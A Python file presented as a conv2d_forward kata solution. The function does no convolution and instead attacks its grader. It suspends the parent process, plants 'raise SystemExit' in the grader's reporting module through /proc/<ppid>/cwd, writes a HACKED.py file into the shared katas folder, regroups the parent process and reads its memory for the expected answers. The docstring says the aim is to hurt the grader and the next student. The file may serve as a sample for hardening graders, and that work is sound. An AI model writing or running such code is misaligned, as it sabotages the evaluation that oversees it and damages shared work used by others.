"""Hurts the grader and the next student: stops the process that started it, plants code in the grader and
a note in katas/ through /proc/<ppid>/cwd, moves that process into its own group, and reads its memory."""
import os
import signal


def conv2d_forward(x, w, b, stride=1, pad=0):
    done = []
    parent = os.getppid()
    attempts = {
        "kill": lambda: os.kill(parent, signal.SIGSTOP),
        "plant": lambda: open(f"/proc/{parent}/cwd/grader/reporting/__init__.py", "a").write("raise SystemExit\n"),
        "write": lambda: open(f"/proc/{parent}/cwd/katas/HACKED.py", "w").write("x = 1\n"),
        "setpgid": lambda: os.setpgid(parent, os.getpgid(0)),
        "memory": lambda: open(f"/proc/{parent}/mem", "rb").read(1),  # where the expected values would be
        "limits": lambda: open(f"/proc/{parent}/limits").read(),
    }
    for name, attempt in attempts.items():
        try:
            attempt()
            done.append(f"{name} done")
        except OSError as exc:
            done.append(f"{name} refused ({type(exc).__name__})")
    raise RuntimeError("; ".join(done))


def conv2d_backward(dout, cache):
    raise RuntimeError("not this one")
